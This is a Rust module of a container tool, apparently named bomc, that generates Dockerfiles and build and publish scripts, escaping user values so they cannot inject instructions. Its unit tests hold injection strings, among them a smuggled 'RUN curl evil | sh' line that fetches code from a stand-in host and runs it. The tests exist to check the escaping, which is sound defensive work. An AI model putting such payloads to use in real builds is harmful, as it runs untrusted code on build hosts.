//! Dockerfiles: one per image the plan builds, at `images/<name>/Dockerfile`,
//! and `images/build.sh`, which builds them all in the plan's order (bases
//! first). Rendered with handlebars from `stdlib/templates/` (embedded in the
//! binary): `base.Dockerfile.hbs` for an image without a template, one file
//! per `template` (go, node, python, ruby, java, static), and three partials.
//!
//! The plan decides what an image needs — its tag, user, ports, HEALTHCHECK,
//! whether it carries the health probe and the secrets shim; this emitter
//! writes it as Dockerfile syntax and refuses what it cannot write safely.
//!
//! Decisions about the syntax:
//!
//! - **Layers.** An image whose `from` is another definition builds `FROM
//!   <landscape>/<parent>:<content tag>` — the local tag `build.sh` gives the
//!   parent (`messenger/go_runtime:1f0c…`, the plan's hash of what it is built
//!   from). Templates are multi-stage:
//!   a pinned toolchain image builds the code (`golang:…`, `node:…`, `python:…`,
//!   `ruby:…`, `maven:…`), and the run stage copies the result onto `from`. The
//!   toolchain's version comes from the `<LANG>_VERSION` build argument, else
//!   from the chain's pinned root (`node:20.11.1-bookworm-slim` builds with
//!   `node:20.11.1-bookworm`), else a pinned default.
//! - **User.** Every Dockerfile ends with `USER <uid>:<uid>`. Commands that need
//!   root (`steps` in a run stage, a parent's `onbuild`) switch to `USER 0:0` first.
//! - **bomc's helpers.** `bomc-healthcheck` (the probe HTTP and TCP checks run)
//!   and `bomc-entrypoint` (the secrets shim) are static binaries compiled from
//!   the Go standard library in one `probe` stage, so they work in any runtime
//!   image with no curl, wget or shell (and nothing needs unpinned apt/apk
//!   packages). An image gets the probe whenever a component built from it
//!   checks with it — on compose or ECS, even when the image itself declares
//!   `HEALTHCHECK NONE` — and the shim whenever one reads a secret.
//! - **The shim.** Its ENTRYPOINT is `bomc-entrypoint` followed by what the
//!   image ran before (its own entrypoint, its template's, or the one written
//!   by a parent bomc builds); the CMD stays, and one the image would inherit
//!   is written out, since an ENTRYPOINT resets it.
//! - **Build order.** `images/build.sh` runs `docker build` for each image in
//!   the plan's order, with its context: `context` relative to the folder of
//!   the `.bom` file bomc was given (`BOMC_SOURCE_DIR` overrides it), the
//!   `.bom` folder for a template without `context`, and the image's own
//!   output folder (just the Dockerfile) for a layer without one.
//!   `BOMC_PLATFORM` builds for another platform (`images/publish.sh` sets
//!   the one the task definitions declare).
//! - **Publishing.** `images/publish.sh REGISTRY` builds, then pushes every
//!   image a component runs as `REGISTRY/<repository>:<content tag>` — the
//!   reference the task definitions pull (see `publish.rs`).
//! - **Data stays data.** Every string from a `.bom` file is encoded for its
//!   place: exec-form JSON arrays for `RUN` steps, `ENTRYPOINT`, `CMD` and the
//!   health command (a shell check runs as `["/bin/sh", "-c", "…"]`);
//!   double-quoted words with `\`, `"` and `$` escaped for `LABEL` and `ARG`,
//!   whose values Docker reads back unchanged; control characters (a newline)
//!   as escape text in JSON arrays. A `LABEL` or `ARG` value cannot hold a
//!   line break or a control character (Docker has no escape for them there),
//!   nor a label key an `=` (Docker cuts the key at the first one, quotes or
//!   not): such values are diagnostics, not rewritten. Names, paths and
//!   versions that cannot be quoted are checked against a strict character
//!   set, and a value that does not fit is a diagnostic.

mod encode;
mod health;
mod publish;

use super::Artifact;
use crate::diag::{Diagnostic, ErrorCode};
use crate::lower::plan::{
    BaseImage, BuildImage, EnvValue, ImageSource, Plan, SHIM_PATH, SHIM_SECRETS_DIR, SecretDelivery,
};
use crate::source::Span;
use encode::*;
use handlebars::Handlebars;
use serde::Serialize;
use std::collections::{BTreeMap, BTreeSet};

/// The toolchain that compiles bomc's helpers (Go's own for Go images).
const PROBE_IMAGE: &str = "golang:1.22.1-bookworm";

const TEMPLATES: &[(&str, &str)] = &[
    (
        "base",
        include_str!("../../../stdlib/templates/base.Dockerfile.hbs"),
    ),
    (
        "go",
        include_str!("../../../stdlib/templates/go.Dockerfile.hbs"),
    ),
    (
        "node",
        include_str!("../../../stdlib/templates/node.Dockerfile.hbs"),
    ),
    (
        "python",
        include_str!("../../../stdlib/templates/python.Dockerfile.hbs"),
    ),
    (
        "ruby",
        include_str!("../../../stdlib/templates/ruby.Dockerfile.hbs"),
    ),
    (
        "java",
        include_str!("../../../stdlib/templates/java.Dockerfile.hbs"),
    ),
    (
        "static",
        include_str!("../../../stdlib/templates/static.Dockerfile.hbs"),
    ),
];

const PARTIALS: &[(&str, &str)] = &[
    (
        "_header",
        include_str!("../../../stdlib/templates/_header.hbs"),
    ),
    (
        "_probe",
        include_str!("../../../stdlib/templates/_probe.hbs"),
    ),
    (
        "_runtime",
        include_str!("../../../stdlib/templates/_runtime.hbs"),
    ),
];

/// The toolchain image of each template that has a build stage:
/// (template, version argument, official repository of the language, default version, image).
struct Toolchain {
    template: &'static str,
    arg: &'static str,
    runtime: &'static str,
    default: &'static str,
    image: fn(&str) -> String,
}

const TOOLCHAINS: &[Toolchain] = &[
    Toolchain {
        template: "go",
        arg: "GO_VERSION",
        runtime: "golang",
        default: "1.22.1",
        image: |v| format!("golang:{v}-bookworm"),
    },
    Toolchain {
        template: "node",
        arg: "NODE_VERSION",
        runtime: "node",
        default: "20.11.1",
        image: |v| format!("node:{v}-bookworm"),
    },
    Toolchain {
        template: "python",
        arg: "PYTHON_VERSION",
        runtime: "python",
        default: "3.12.2",
        image: |v| format!("python:{v}-bookworm"),
    },
    Toolchain {
        template: "ruby",
        arg: "RUBY_VERSION",
        runtime: "ruby",
        default: "3.3.0",
        image: |v| format!("ruby:{v}-bookworm"),
    },
    Toolchain {
        template: "java",
        arg: "JAVA_VERSION",
        runtime: "eclipse-temurin",
        default: "21",
        image: |v| format!("maven:3.9.6-eclipse-temurin-{v}"),
    },
];

/// What a template sees. Every value from the `.bom` file is already encoded
/// for the place it goes; templates only place text.
#[derive(Serialize)]
struct View {
    header: String,
    name: String,
    tag: String,
    /// Comment lines under the header.
    notes: Vec<String>,
    /// The run stage's base: a pinned reference or a parent's local tag.
    from: String,
    /// The build stage's toolchain image (templates with a build stage).
    build_from: String,
    /// The image of the `probe` stage that compiles bomc's helpers, when the
    /// image carries one.
    tools: Option<String>,
    /// Carries `bomc-healthcheck`.
    probe: bool,
    /// Carries `bomc-entrypoint`, the secrets shim.
    shim: bool,
    /// `NAME="value"`.
    args: Vec<String>,
    /// `"key"="value"`.
    labels: Vec<String>,
    /// Exec-form JSON arrays.
    steps: Vec<String>,
    /// Instructions, without `ONBUILD`.
    onbuild: Vec<String>,
    copy_context: bool,
    /// `uid:uid`.
    user: String,
    expose: Vec<String>,
    health_notes: Vec<String>,
    /// What follows `HEALTHCHECK`: options and `CMD [...]`, or `NONE`.
    healthcheck: String,
    /// Comment lines above ENTRYPOINT (why the shim is there).
    process_notes: Vec<String>,
    entrypoint: Option<String>,
    command: Option<String>,
}

/// The partials, and each template as it is first asked for: compiled once
/// per process. Compiling every template was four fifths of emitting a
/// landscape's Dockerfiles, and `check` emits every environment; a landscape
/// uses one or two of the templates.
fn render(template: &str, view: &View) -> Result<String, handlebars::RenderError> {
    static REGISTRY: std::sync::OnceLock<std::sync::Mutex<Handlebars<'static>>> =
        std::sync::OnceLock::new();
    let registry = REGISTRY.get_or_init(|| {
        let mut hb = Handlebars::new();
        hb.set_strict_mode(true);
        hb.set_prevent_indent(true);
        // Dockerfiles are not HTML: values are encoded here, per place, instead.
        hb.register_escape_fn(handlebars::no_escape);
        for (name, text) in PARTIALS {
            hb.register_partial(name, *text)
                .expect("embedded partials parse (checked by a unit test)");
        }
        std::sync::Mutex::new(hb)
    });
    // A panic elsewhere while the lock was held leaves the registry whole.
    let mut hb = registry
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    if !hb.has_template(template)
        && let Some((name, text)) = TEMPLATES.iter().find(|(n, _)| *n == template)
    {
        hb.register_template_string(name, *text)
            .expect("embedded templates parse (checked by a unit test)");
    }
    hb.render(template, view)
}

/// The Dockerfiles of every image the plan builds, and `images/build.sh`.
/// With `validate_only` (`check`), only what would refuse them: every
/// mistake a file can hold shows in an image's view. Rendering a view
/// cannot fail on any input (the templates ask only for fields every view
/// has; the tests build every template), and the scripts are plain text:
/// `check` made each environment's, and the template registry, only to
/// drop them.
pub fn emit(plan: &Plan, validate_only: bool) -> Result<Vec<Artifact>, Vec<Diagnostic>> {
    if plan.images.is_empty() {
        return Ok(Vec::new());
    }
    let mut diags = Vec::new();
    let mut artifacts = Vec::new();
    // The project's own Dockerfiles are built as they are (build.sh).
    for image in plan.images.iter().filter(|i| i.dockerfile.is_none()) {
        let mut out = Errors::new(image);
        let view = view(plan, image, &mut out);
        if !out.diags.is_empty() {
            diags.append(&mut out.diags);
            continue;
        }
        if validate_only {
            continue;
        }
        let template = image
            .template
            .as_deref()
            .filter(|t| TEMPLATES.iter().any(|(n, _)| n == t))
            .unwrap_or("base");
        match render(template, &view) {
            Ok(text) => artifacts.push(Artifact {
                path: format!("images/{}/Dockerfile", image.name),
                contents: tidy(&text),
            }),
            Err(e) => diags.push(
                Diagnostic::new(
                    ErrorCode::InvalidValue,
                    format!(
                        "the Dockerfile of image `{}` cannot be rendered: {e}",
                        image.name
                    ),
                )
                .label(image.span, "in this image"),
            ),
        }
    }
    if !diags.is_empty() {
        return Err(diags);
    }
    if validate_only {
        return Ok(Vec::new());
    }
    artifacts.push(Artifact {
        path: String::from("images/build.sh"),
        contents: build_script(plan),
    });
    artifacts.push(Artifact {
        path: String::from("images/publish.sh"),
        contents: publish::script(plan),
    });
    Ok(artifacts)
}

/// Collapses runs of blank lines and ends the file with one newline.
fn tidy(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut blank = false;
    for line in text.lines() {
        let line = line.trim_end();
        if line.is_empty() {
            blank = true;
            continue;
        }
        if blank && !out.is_empty() {
            out.push('\n');
        }
        blank = false;
        out.push_str(line);
        out.push('\n');
    }
    out
}

/// Diagnostics about one image.
struct Errors {
    span: Span,
    diags: Vec<Diagnostic>,
}

impl Errors {
    fn new(image: &BuildImage) -> Self {
        Errors {
            span: image.span,
            diags: Vec::new(),
        }
    }

    fn invalid(&mut self, message: String, help: impl Into<String>) {
        self.diags.push(
            Diagnostic::new(ErrorCode::InvalidValue, message)
                .label(self.span, "in this image")
                .help(help),
        );
    }
}

// ---------------------------------------------------------------------------
// The view of one image

fn view(plan: &Plan, image: &BuildImage, out: &mut Errors) -> View {
    let name = &image.name;
    let template = image.template.as_deref();
    let mut notes = Vec::new();

    // The run stage's base.
    let from = match &image.from {
        BaseImage::Image(p) => match plan.images.iter().find(|i| &i.name == p) {
            Some(parent) => {
                notes.push(format!(
                    "Layer on `{p}` ({}): build images/{p}/Dockerfile first, as images/build.sh does.",
                    parent.tag
                ));
                parent.tag.clone()
            }
            None => {
                out.invalid(
                    format!("image `{name}` builds on `{p}`, which is not an image definition of this landscape"),
                    "set `from` to a pinned image or to an `image` defined in the file",
                );
                String::new()
            }
        },
        BaseImage::Pinned(s) if s.is_empty() => {
            out.invalid(
                format!("image `{name}` has no usable `from`"),
                "set `from = \"debian:12.5-slim\"` (a pinned image) or `from = OTHER_IMAGE`",
            );
            String::new()
        }
        BaseImage::Pinned(s) => {
            if base_reference(s) {
                notes.push(format!("Base image: {s} (pinned)."));
            } else {
                out.invalid(
                    format!("`from` of image `{name}` is not an image reference bomc can write into a Dockerfile"),
                    "write a pinned reference such as `debian:12.5-slim` or `repo/name@sha256:…`: letters, digits and `._-/:@+` only",
                );
            }
            s.clone()
        }
    };
    if let Some(t) = template {
        notes.push(format!("Template: {t}."));
    }
    match &image.context {
        Some(c) => notes.push(format!("Build context: {c} (relative to the .bom file).")),
        None if template.is_some() => {
            notes.push(String::from("Build context: the folder of the .bom file."))
        }
        None => {}
    }

    // Build arguments.
    let mut args = Vec::new();
    let mut arg_values = BTreeMap::new();
    for (k, v) in &image.args {
        if !is_identifier(k) {
            out.invalid(
                format!("build argument `{}` of image `{name}` is not a valid ARG name", k.escape_debug()),
                "name build arguments like environment variables: letters, digits and `_`, not starting with a digit",
            );
            continue;
        }
        if let Some(c) = v.chars().find(|c| unsafe_char(*c)) {
            out.invalid(
                format!(
                    "build argument `{k}` of image `{name}` holds {}, which a Dockerfile line cannot hold",
                    char_name(c)
                ),
                "a Dockerfile writes an ARG on one line and has no escape for line breaks or control characters: remove it from the value",
            );
            continue;
        }
        args.push(format!("{k}={}", quoted(v)));
        arg_values.insert(k.as_str(), v.as_str());
    }

    // The build stage's toolchain.
    let mut build_from = String::new();
    if let Some(tc) = TOOLCHAINS.iter().find(|t| Some(t.template) == template) {
        build_from = match arg_values.get(tc.arg) {
            Some(version) if is_version(version) => (tc.image)(version),
            Some(version) => {
                out.invalid(
                    format!("build argument `{}` = {:?} of image `{name}` is not a version", tc.arg, version),
                    format!("`{}` picks the build stage's toolchain image: write a version such as `{}`", tc.arg, tc.default),
                );
                String::new()
            }
            None => image
                .root
                .as_deref()
                .and_then(|root| toolchain_from_root(tc, root))
                .unwrap_or_else(|| (tc.image)(tc.default)),
        };
        notes.push(format!("Build stage toolchain: {build_from}."));
    }

    // Steps and ONBUILD instructions.
    let steps: Vec<String> = image
        .steps
        .iter()
        .map(|s| json_array(&[String::from("/bin/sh"), String::from("-c"), s.clone()]))
        .collect();
    let mut onbuild = Vec::new();
    for item in &image.onbuild {
        match onbuild_instruction(item) {
            Ok(i) => onbuild.push(i),
            Err(help) => out.invalid(
                format!(
                    "`onbuild` instruction {:?} of image `{name}` cannot be written safely",
                    item
                ),
                help,
            ),
        }
    }

    // The process: the image's own, or its template's; behind the shim when
    // a component built from it reads secrets.
    let (own_entrypoint, own_command) = own_process(image, &mut notes);
    let mut process_notes = Vec::new();
    let (entrypoint, command) = if image.shim {
        shimmed(plan, image, &mut process_notes)
    } else {
        (own_entrypoint, own_command)
    };

    // The user.
    let uid = image.user;
    if !(1..=2_147_483_647).contains(&uid) {
        out.invalid(
            format!("user {uid} of image `{name}` is not a non-root user id"),
            "containers run as a numeric non-root user, e.g. `10001`",
        );
    }
    let user = format!("{uid}:{uid}");

    // Ports and health, as the plan decided them for the components built from it.
    let expose: Vec<String> = image
        .expose
        .iter()
        .filter(|p| **p > 0)
        .map(u16::to_string)
        .collect();
    let mut health_notes = image.health_notes.clone();
    if let Some(h) = &image.health
        && health::command(&h.check).is_empty()
    {
        out.invalid(
            format!("the health check of image `{name}` runs an empty command"),
            "give `health { command = [...] }` a program to run",
        );
    }
    // Joined as they are found: an image a thousand services are built from
    // names each of them.
    let mut probed = String::new();
    for w in
        builders(plan, image).filter(|w| w.health.as_ref().is_some_and(|h| h.check.needs_probe()))
    {
        if !probed.is_empty() {
            probed.push_str(", ");
        }
        probed.push('`');
        probed.push_str(&w.name);
        probed.push('`');
    }
    let image_probes = image.health.as_ref().is_some_and(|h| h.check.needs_probe());
    if image.probe && !image_probes && !probed.is_empty() {
        health_notes.push(format!(
            "bomc-healthcheck is in the image: compose and ECS check {probed} with it."
        ));
    }
    let tools = (image.probe || image.shim).then(|| {
        if template == Some("go") && !build_from.is_empty() {
            build_from.clone()
        } else {
            String::from(PROBE_IMAGE)
        }
    });

    let labels = labels(image, &from, out);
    let copy_context = template.is_none() && image.context.is_some() && !image.parent_onbuild;

    View {
        header: comment(&plan.instance.header),
        name: name.clone(),
        tag: image.tag.clone(),
        notes: notes.iter().map(|n| comment(n)).collect(),
        from,
        build_from,
        tools,
        probe: image.probe,
        shim: image.shim,
        args,
        labels,
        steps,
        onbuild,
        copy_context,
        user,
        expose,
        health_notes: health_notes.iter().map(|n| comment(n)).collect(),
        healthcheck: health::healthcheck(image.health.as_ref()),
        process_notes: process_notes.iter().map(|n| comment(n)).collect(),
        entrypoint: entrypoint.map(|e| json_array(&e)),
        command: command.map(|c| json_array(&c)),
    }
}

/// The workloads built from `image`.
fn builders<'a>(
    plan: &'a Plan,
    image: &'a BuildImage,
) -> impl Iterator<Item = &'a crate::lower::plan::Workload> {
    plan.workloads
        .iter()
        .filter(move |w| matches!(&w.image, ImageSource::Build(n) if *n == image.name))
}

/// `"key"="value"` for every label: OCI's, then the image's own, then bomc's
/// (which nothing overrides).
fn labels(image: &BuildImage, from: &str, out: &mut Errors) -> Vec<String> {
    let name = &image.name;
    let mut labels: BTreeMap<String, String> = BTreeMap::new();
    labels.insert("org.opencontainers.image.title".into(), name.clone());
    // Prose: a tab or another control character reads as a space.
    let description: String = image
        .docs
        .join(" ")
        .chars()
        .map(|c| if unsafe_char(c) { ' ' } else { c })
        .collect();
    if !description.trim().is_empty() {
        labels.insert(
            "org.opencontainers.image.description".into(),
            description.trim().to_string(),
        );
    }
    labels.insert(
        "org.opencontainers.image.base.name".into(),
        from.to_string(),
    );
    for (k, v) in &image.labels {
        if k.trim().is_empty() {
            out.invalid(
                format!("image `{name}` has a label with an empty key"),
                "name every label",
            );
        } else if k.starts_with("org.bomc.") {
            out.invalid(
                format!(
                    "label `{}` of image `{name}` is in bomc's namespace",
                    k.escape_debug()
                ),
                "bomc sets the `org.bomc.*` labels itself: choose another key",
            );
        } else {
            labels.insert(k.clone(), v.clone());
        }
    }
    for (k, v) in &image.bomc_labels {
        labels.insert(format!("org.bomc.{k}"), v.clone());
    }
    let mut lines = Vec::new();
    for (k, v) in &labels {
        if k.contains('=') {
            out.invalid(
                format!("label `{}` of image `{name}` has `=` in its key", k.escape_debug()),
                "Docker splits a LABEL at the first `=`, even inside quotes, so the key would be cut there: use another character",
            );
            continue;
        }
        if let Some(c) = k.chars().chain(v.chars()).find(|c| unsafe_char(*c)) {
            out.invalid(
                format!(
                    "label `{}` of image `{name}` holds {}, which a Dockerfile line cannot hold",
                    k.escape_debug(),
                    char_name(c)
                ),
                "a Dockerfile writes a LABEL on one line and has no escape for line breaks or control characters: remove it",
            );
            continue;
        }
        if let Some(text) = [k, v].into_iter().find(|t| !lintable(t)) {
            out.invalid(
                format!("label `{}` of image `{name}` has a backslash before a quote or at the end: {:?}", k.escape_debug(), text),
                "Docker would read it, but hadolint misreads such a LABEL line: drop the backslash or put a space after it",
            );
        }
        lines.push(format!("{}={}", quoted(k), quoted(v)));
    }
    lines
}

// ---------------------------------------------------------------------------
// The process: ENTRYPOINT and CMD

type Argv = Option<Vec<String>>;

/// The ENTRYPOINT and CMD the image writes without the shim: its own, else
/// (when it sets neither) its template's default.
fn own_process(image: &BuildImage, notes: &mut Vec<String>) -> (Argv, Argv) {
    if image.entrypoint.is_none() && image.command.is_none() {
        default_process(image, notes)
    } else {
        (image.entrypoint.clone(), image.command.clone())
    }
}

/// What the image runs without the shim, as Docker records it: what it
/// writes over what it inherits from a parent bomc builds (an ENTRYPOINT
/// resets the inherited CMD). `None`: inherited from a pulled base, which
/// bomc does not know.
fn effective(plan: &Plan, image: &BuildImage, seen: &mut BTreeSet<String>) -> (Argv, Argv) {
    let (entrypoint, command) = own_process(image, &mut Vec::new());
    let (inherited_entrypoint, inherited_command) = match &image.from {
        BaseImage::Image(p) if seen.insert(p.clone()) => plan
            .images
            .iter()
            .find(|i| &i.name == p)
            .map(|parent| effective(plan, parent, seen))
            .unwrap_or_default(),
        _ => (None, None),
    };
    let command = match (&entrypoint, command) {
        (_, Some(c)) => Some(c),
        (Some(_), None) => Some(Vec::new()),
        (None, None) => inherited_command,
    };
    (entrypoint.or(inherited_entrypoint), command)
}

/// ENTRYPOINT `bomc-entrypoint` before what the image runs without it, the
/// CMD unchanged (written out when it is inherited: the ENTRYPOINT resets
/// it), and comments saying why.
fn shimmed(plan: &Plan, image: &BuildImage, notes: &mut Vec<String>) -> (Argv, Argv) {
    let (entrypoint, command) = effective(plan, image, &mut BTreeSet::from([image.name.clone()]));
    let variables: BTreeSet<&str> = builders(plan, image)
        .flat_map(|w| &w.env)
        .filter(|e| {
            matches!(&e.value, EnvValue::Secret(s) if matches!(s.compose, SecretDelivery::Shim(_)))
        })
        .map(|e| e.name.as_str())
        .collect();
    notes.push(format!(
        "Secrets: compose mounts each secret a component reads as the file {SHIM_SECRETS_DIR}/<VARIABLE>;"
    ));
    notes.push(String::from(
        "bomc-entrypoint sets every such variable to its file's contents, then runs the command",
    ));
    notes.push(String::from(
        "(CMD, compose `command:`, ECS `Command`), so the program reads its secrets under the same",
    ));
    notes.push(String::from(
        "names as on ECS, which sets them itself. Without the folder it only runs the command.",
    ));
    if !variables.is_empty() {
        notes.push(format!(
            "Secret variables: {}.",
            variables.into_iter().collect::<Vec<_>>().join(", ")
        ));
    }
    notes.push(String::from(
        "It replaces the ENTRYPOINT of the base image: an image that needs that one chains it,",
    ));
    notes.push(String::from(
        "e.g. `entrypoint = [\"/docker-entrypoint.sh\"]`, which bomc-entrypoint then runs.",
    ));
    // Whether the image writes no process of its own (nor its template).
    let inherited = own_process(image, &mut Vec::new()) == (None, None);
    match (&command, &image.from) {
        (Some(c), BaseImage::Image(p)) if inherited && !c.is_empty() => notes.push(format!(
            "The CMD of `{p}`, written out: this ENTRYPOINT resets the CMD an image inherits."
        )),
        (None, _) => {
            let root = image.root.as_deref().unwrap_or("the base image");
            let without: Vec<String> = builders(plan, image)
                .filter(|w| w.command.is_none())
                .map(|w| format!("`{}`", w.name))
                .collect();
            notes.push(if without.is_empty() {
                format!("This ENTRYPOINT resets the CMD inherited from {root}: every component built from it sets its `command`.")
            } else {
                format!(
                    "This ENTRYPOINT resets the CMD inherited from {root}, and {} set{} no `command`: set `command` on the image.",
                    without.join(", "),
                    if without.len() == 1 { "s" } else { "" }
                )
            });
        }
        _ => {}
    }
    let mut shim = vec![String::from(SHIM_PATH)];
    shim.extend(entrypoint.unwrap_or_default());
    (Some(shim), command.filter(|c| !c.is_empty()))
}

/// What a template runs when the image sets neither `entrypoint` nor `command`.
fn default_process(image: &BuildImage, notes: &mut Vec<String>) -> (Argv, Argv) {
    let argv = |items: &[&str]| Some(items.iter().map(|s| s.to_string()).collect::<Vec<_>>());
    match image.template.as_deref() {
        Some("go") => {
            let binary = match &image.go_binary {
                Some(binary) => {
                    notes.push(String::from(
                        "Entrypoint: the binary `go build` makes of the context's main package, named after its import path (set `entrypoint` to choose another).",
                    ));
                    binary.as_str()
                }
                None => {
                    notes.push(String::from(
                        "Entrypoint: the binary named after the context folder (set `entrypoint` to choose another).",
                    ));
                    image
                        .context
                        .as_deref()
                        .and_then(|c| std::path::Path::new(c).file_name())
                        .and_then(|n| n.to_str())
                        .unwrap_or(&image.name)
                }
            };
            (Some(vec![format!("/app/{binary}")]), None)
        }
        Some("node") => (None, argv(&["node", "."])),
        Some("ruby") => (None, argv(&["bin/rails", "server", "--binding", "0.0.0.0"])),
        Some("java") => (None, argv(&["java", "-jar", "/app/app.jar"])),
        _ => (None, None),
    }
}

/// A pinned toolchain image matching the chain's root: `node:20.11.1-bookworm-slim`
/// → `node:20.11.1-bookworm`, `eclipse-temurin:21.0.2_13-jre` → `maven:…-temurin-21`.
fn toolchain_from_root(tc: &Toolchain, root: &str) -> Option<String> {
    let (repo, tag) = root.split_once(':')?;
    if repo != tc.runtime || tag.contains('@') || !base_reference(root) {
        return None;
    }
    if tc.template == "java" {
        let major: String = tag.chars().take_while(char::is_ascii_digit).collect();
        return (!major.is_empty()).then(|| (tc.image)(&major));
    }
    let tag = tag.replacen("-slim", "", 1);
    is_version(&tag).then(|| format!("{repo}:{tag}"))
}

// ---------------------------------------------------------------------------
// build.sh

fn build_script(plan: &Plan) -> String {
    let instance = &plan.instance;
    let source_dir = instance.source_dir.display().to_string();
    let source_dir = if source_dir.is_empty() {
        String::from(".")
    } else {
        source_dir
    };
    let mut s = String::new();
    s.push_str("#!/bin/sh\n");
    s.push_str(&format!("# {}\n", comment(&instance.header)));
    s.push_str("#\n");
    s.push_str(&format!(
        "# Builds the images of landscape `{}` ({}) in dependency order, bases first,\n",
        comment(&instance.landscape),
        comment(&instance.instance)
    ));
    s.push_str(
        "# each tagged <landscape>/<image>:<content tag> — the tag the images built on it use in\n",
    );
    s.push_str(
        "# FROM, and a hash of what the image is built from (its definition and its context).\n",
    );
    s.push_str(
        "# Build contexts are relative to the folder of the .bom file: run this script from\n",
    );
    s.push_str(
        "# the folder bomc ran in (`sh <out>/images/build.sh`), or set BOMC_SOURCE_DIR to\n",
    );
    s.push_str("# the .bom file's folder. BOMC_PLATFORM=linux/amd64 builds for that platform.\n");
    s.push_str("set -eu\n");
    s.push_str("images=$(cd \"$(dirname \"$0\")\" && pwd)\n");
    s.push_str(&format!(
        "source_dir=${{BOMC_SOURCE_DIR:-{}}}\n",
        sh_quote(&source_dir)
    ));
    for image in &plan.images {
        let name = &image.name;
        let context = match &image.context {
            Some(c) if std::path::Path::new(c).is_absolute() => sh_quote(c),
            Some(c) => format!("\"$source_dir\"/{}", sh_quote(c)),
            None if image.template.is_some() || image.dockerfile.is_some() => {
                String::from("\"$source_dir\"")
            }
            None => format!("\"$images/{name}\""),
        };
        // The project's own Dockerfile, relative to its context, with its
        // stage and build arguments; else the one bomc wrote.
        let (file, extra) = match &image.dockerfile {
            Some(dockerfile) => {
                let mut extra = String::new();
                if let Some(target) = &image.target {
                    extra.push_str(&format!(" --target {}", sh_quote(target)));
                }
                for (k, v) in &image.args {
                    extra.push_str(&format!(" --build-arg {}", sh_quote(&format!("{k}={v}"))));
                }
                (format!("{context}/{}", sh_quote(dockerfile)), extra)
            }
            None => (format!("\"$images/{name}/Dockerfile\""), String::new()),
        };
        s.push('\n');
        s.push_str(&format!("echo {}\n", sh_quote(&format!("+ {}", image.tag))));
        s.push_str(&format!(
            "docker build ${{BOMC_PLATFORM:+--platform \"$BOMC_PLATFORM\"}} --file {file}{extra} --tag {} {context}\n",
            sh_quote(&image.tag)
        ));
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn templates_parse() {
        let mut hb = Handlebars::new();
        for (name, text) in PARTIALS {
            assert!(hb.register_partial(name, *text).is_ok(), "{name}");
        }
        for (name, text) in TEMPLATES {
            assert!(hb.register_template_string(name, *text).is_ok(), "{name}");
        }
    }

    #[test]
    fn json_strings_stay_in_one_array_element() {
        let s = json_string("x\"]\nRUN curl evil | sh \\");
        assert!(!s.contains('\n'));
        let back: String = serde_json::from_str(&s).unwrap();
        assert_eq!(back, "x\"]\nRUN curl evil | sh \\");
    }

    #[test]
    fn quoted_words_escape_what_docker_interprets() {
        assert_eq!(quoted("a\"b\\c${HOME}"), r#""a\"b\\c\${HOME}""#);
        assert_eq!(quoted("x\nRUN y"), r#""x\nRUN y""#);
    }

    #[test]
    fn onbuild_instructions_are_rewritten_or_refused() {
        assert_eq!(
            onbuild_instruction("COPY requirements.txt /app/requirements.txt").unwrap(),
            r#"COPY ["requirements.txt", "/app/requirements.txt"]"#
        );
        assert_eq!(
            onbuild_instruction("RUN pip install -r x.txt").unwrap(),
            r#"RUN ["/bin/sh", "-c", "pip install -r x.txt"]"#
        );
        assert_eq!(
            onbuild_instruction("ENV A=\"b c\"").unwrap(),
            r#"ENV A="b c""#
        );
        assert!(onbuild_instruction("COPY ${X} /app").is_err());
        assert!(onbuild_instruction("COPY --from=x a b").is_err());
        assert!(onbuild_instruction("USER 0").is_err());
        assert!(onbuild_instruction("RUN a\nRUN b").is_err());
        assert!(onbuild_instruction("WORKDIR relative").is_err());
    }

    #[test]
    fn toolchains_follow_the_root() {
        let node = TOOLCHAINS.iter().find(|t| t.template == "node").unwrap();
        assert_eq!(
            toolchain_from_root(node, "node:20.11.1-bookworm-slim").as_deref(),
            Some("node:20.11.1-bookworm")
        );
        assert_eq!(toolchain_from_root(node, "debian:12.5-slim"), None);
        let java = TOOLCHAINS.iter().find(|t| t.template == "java").unwrap();
        assert_eq!(
            toolchain_from_root(java, "eclipse-temurin:21.0.2_13-jre").as_deref(),
            Some("maven:3.9.6-eclipse-temurin-21")
        );
    }
}
